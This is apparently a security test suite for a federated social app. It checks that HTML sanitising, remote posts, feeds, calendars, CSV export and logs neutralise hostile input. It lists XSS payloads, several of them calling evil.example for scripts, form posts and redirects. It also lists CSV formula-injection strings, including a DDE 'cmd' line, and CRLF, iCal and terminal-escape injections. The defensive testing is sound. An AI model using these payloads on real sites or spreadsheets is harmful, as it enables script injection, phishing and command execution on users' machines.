import { configureSync, getLogger, resetSync } from "@logtape/logtape";
import { Parser } from "htmlparser2";
import ICAL from "ical.js";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { announce } from "#src/app/announcements.ts";
import { csvRecord } from "#src/app/csv.ts";
import { htmlOfText, plainText, safeHtml } from "#src/app/html.ts";
import { formatLine } from "#src/log-lines.ts";
import { writeAtom } from "#src/web/feeds/atom.ts";
import { readObject } from "#federation/wire/note.ts";
import { readRemoteActor } from "#federation/wire/remote-actor.ts";
import { memoryDatabase, useCleanup } from "#test/rig.ts";
import { openPagesNode, type PagesNode } from "#test/web/pages-node.ts";

const cleanup = useCleanup();

/** What would run, load, frame, restyle or post when it came into a page. */
const payloads: readonly string[] = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<svg><script href='data:,alert(1)'/></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href='jAvAsCrIpT&colon;alert(1)'>x</a>",
  "<a href='&#1;javascript:alert(1)'>x</a>",
  "<a href='java\nscript:alert(1)'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<a href='//evil.example/' style='position:fixed;inset:0' target=_top>x</a>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data='evil.swf'></object><embed src='evil.swf'>",
  "<form action='https://evil.example/'><input name=password><button formaction=x>x</button></form>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'><base href='https://evil.example/'>",
  "<link rel=stylesheet href=https://evil.example/x.css><style>*{display:none}</style>",
  "<p onclick=alert(1) id=main class=hidden>x</p>",
  "<!--><script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<template><script>alert(1)</script></template><dialog open>x</dialog>",
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  "]]><x/>&lt;script&gt;alert(1)&lt;/script&gt;",
];
const dangerous =
  /<\/?(script|svg|math|img|iframe|object|embed|form|input|button|meta|base|link|style|template|dialog|video|audio)\b|\son\w+\s*=|javascript:|data:text|\sstyle\s*=|srcdoc/i;

describe("HTML of others", () => {
  test.each(payloads)("%s is harmless in what we keep and show", (payload) => {
    for (const html of [
      safeHtml(payload),
      safeHtml(`<p>${payload}</p>`),
      safeHtml(safeHtml(payload)),
      htmlOfText(payload),
    ])
      expect(html.replaceAll(/&lt;[^<]*/g, "")).not.toMatch(dangerous);
    // Words are shown escaped; they must not come out of the sanitiser as mark-up of a second reading.
    expect(safeHtml(htmlOfText(plainText(payload))).replaceAll(/&lt;[^<]*/g, "")).not.toMatch(dangerous);
  });

  test("in a name, a handle, a summary or a description of a picture is words", () => {
    for (const payload of payloads) {
      const id = "https://eve.example/users/eve";
      const actor = {
        id,
        type: "Person",
        inbox: `${id}/inbox`,
        preferredUsername: payload,
        name: payload,
        url: payload,
      };
      const read = readRemoteActor(actor, id);
      if (read.ok) {
        expect(`${read.value.name}${read.value.address}`).not.toMatch(/\p{Cc}/u);
        expect(read.value.url).toMatch(/^https:\/\/eve\.example\//);
      }
      const note = readObject(
        {
          id: "https://eve.example/notes/1",
          type: "Note",
          attributedTo: id,
          content: payload,
          contentMap: { en: payload, [payload]: payload },
          summary: payload,
          url: payload,
          attachment: [{ type: "Image", url: "https://eve.example/x.svg", mediaType: payload, name: payload }],
        },
        { nowMs: 0 },
      );
      if (!note.ok) continue;
      const { contentHtml, url, attachments } = note.value;
      for (const html of Object.values(contentHtml)) expect(html.replaceAll(/&lt;[^<]*/g, "")).not.toMatch(dangerous);
      expect(Object.keys(contentHtml).every((tag) => /^[\w-]+$/.test(tag))).toBe(true);
      expect([url, attachments[0]?.mediaType]).toEqual(["https://eve.example/notes/1", ""]);
    }
  });
});

/** Tags and attributes that no page of ours has, as a browser would see them. */
function foreignIn(html: string): readonly string[] {
  const found: string[] = [];
  const onopentag = (name: string, attributes: Readonly<Record<string, string>>): void => {
    if (/^(object|embed|iframe|math|base|template|dialog|style)$/.test(name)) found.push(name);
    if (name === "script" && !attributes["src"]?.startsWith("/assets/")) found.push(name);
    for (const [attribute, value] of Object.entries(attributes))
      if (/^(on|style|srcdoc|formaction|xlink)/.test(attribute) || /^\s*(javascript|data:text)/i.test(value))
        found.push(`${name} ${attribute}="${value}"`);
  };
  new Parser({ onopentag }).end(html);
  return found;
}

describe("the coop's own words", () => {
  let node: PagesNode;
  beforeAll(async () => {
    const database = await memoryDatabase();
    cleanup(() => database.close());
    node = await openPagesNode(database, {});
    cleanup(() => node.close());
    for (const payload of payloads) await announce(node.app, { content: { en: payload } });
  });

  test("stand on pages and in previews as words, and nothing on a page could run anyway", async () => {
    for (const path of ["/", "/announcements"]) {
      const { html, headers } = await node.visitor().get(path);
      expect(foreignIn(html)).toEqual([]);
      const policy = headers.get("content-security-policy") ?? "";
      for (const rule of [
        "default-src 'none'",
        "script-src 'self'",
        "base-uri 'none'",
        "form-action 'self'",
        "frame-ancestors 'none'",
      ])
        expect(policy).toContain(rule);
      expect(policy).not.toContain("unsafe-inline");
      expect(headers.get("x-content-type-options")).toBe("nosniff");
    }
  });
});

describe("what is written for programs", () => {
  const line = 'x\r\nBEGIN:VEVENT\r\nURL:https://evil.example/\n";,=HYPERLINK("x")\u0000\u0007\u001b[31m]]>\ufffe';

  test("a feed stays XML, whatever is in it", async () => {
    const address = "https://here.example/x";
    const entry = {
      id: address,
      title: line,
      page: `${address}"><evil/>`,
      updatedAtMs: 0,
      author: line,
      lines: [line, ...payloads],
    };
    const feed = {
      address,
      page: address,
      title: line,
      author: line,
      language: "en",
      updatedAtMs: 0,
      entries: [entry],
    };
    const xml = await writeAtom(feed);
    expect(xml).not.toMatch(/<(evil|script|svg|img)\b/);
    // XML cannot hold these, not even escaped.
    expect(xml).not.toMatch(/[[\p{Cc}--[\t\n\r]]\ufffe\uffff]|&#(x?0*[0-8b-e]|x1b|27|7);/v);
  });

  test("a calendar's line never becomes two, so that nobody adds an event or an address to it", () => {
    const component = new ICAL.Component("vevent");
    component.addPropertyWithValue("summary", line.replaceAll("\u0000", ""));
    const lines = component.toString().split(/\r\n(?! )/);
    expect(lines.filter((each) => /^(BEGIN:VEVENT|URL:)/.test(each))).toEqual(["BEGIN:VEVENT"]);
  });

  test.each([
    '=HYPERLINK("https://evil.example")',
    "+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    " =1",
    "＝1",
  ])("a spreadsheet does not take %j for a formula", (text) => {
    expect(csvRecord([text, "b"]).replace(/^"/, "")).toMatch(/^'/);
  });
});

describe("what is logged", () => {
  const lines: string[] = [];
  beforeAll(() => {
    resetSync();
    configureSync({
      sinks: { kept: (record) => void lines.push(formatLine(record)) },
      loggers: [
        { category: "fedicoop", lowestLevel: "debug", sinks: ["kept"] },
        { category: ["logtape", "meta"], lowestLevel: "error", sinks: [] },
      ],
    });
  });
  afterAll(() => resetSync());

  test("of others is on lines that do not begin like ours, and steers no terminal", () => {
    const evil =
      "x\r\n2026-11-23 00:00:00.000 +00:00 [INF] fedicoop·main: forged\u001b[2J\u001b]0;x\u0007\u202e\u2028\u0085x";
    const log = getLogger(["fedicoop", "test"]);
    log.info("{actor} says {json}", { actor: evil, json: { [evil]: [evil] } });
    log.error("It failed: {error}", { error: new Error(evil, { cause: new TypeError(evil) }) });
    const text = lines.join("");
    expect(text).toContain("forged");
    expect(text.split("\n").filter((each) => each.startsWith("2026-11-23 00:00:00.000"))).toEqual([]);
    expect(text.split("\n").filter((each) => each !== "" && !each.startsWith("  | "))).toHaveLength(2);
    expect(text).not.toMatch(/[[\p{Cc}--[\t\n]]\u2028\u202e]/v);
  });
});
